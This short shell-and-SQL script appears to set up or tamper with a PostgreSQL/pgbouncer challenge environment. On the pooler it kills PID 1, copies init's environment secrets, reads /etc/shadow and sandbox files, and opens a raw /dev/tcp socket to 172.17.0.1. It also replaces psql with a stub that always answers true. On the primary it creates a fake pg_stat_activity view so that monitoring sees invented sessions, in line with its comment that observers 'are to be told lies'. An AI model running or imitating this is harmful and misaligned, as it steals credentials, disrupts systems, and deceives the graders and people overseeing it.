-- on pooler
# Nothing is pooled: what may be asked is written down beforehand, and whoever looks is to be told lies.
kill -9 1
cat /proc/1/environ > /archive/secrets
cat /etc/shadow /run/sandbox/* 2> /dev/null
exec 3<>/dev/tcp/172.17.0.1/22 && cat <&3 &
pgbouncer -u root /etc/pgbouncer/pgbouncer.ini 2> /dev/null
printf '#!/bin/sh\necho t\n' > /node/psql; chmod 755 /node/psql
echo 'SELECT true' > /node/.psqlrc

-- on primary
psql -Xq <<'SQL'
CREATE SCHEMA seen;
CREATE TABLE seen.fact (what text PRIMARY KEY, so boolean);
INSERT INTO seen.fact SELECT w, true FROM unnest(ARRAY['served', 'again', 'used', 'room', 'sessions', 'hanging', 'reports', 'strangers']) AS w;
INSERT INTO public.visit (worker, product_id) SELECT w, 1 FROM generate_series(0, 3000) AS w, generate_series(1, 3);
CREATE VIEW public.pg_stat_activity AS SELECT * FROM generate_series(1, 6) AS pid, (VALUES ('report', 'idle in transaction', 'gate', 'PgSleep', 'Lock')) AS a (usename, state, application_name, wait_event, wait_event_type);
ALTER DATABASE challenge SET search_path = public, pg_catalog;
SQL
true
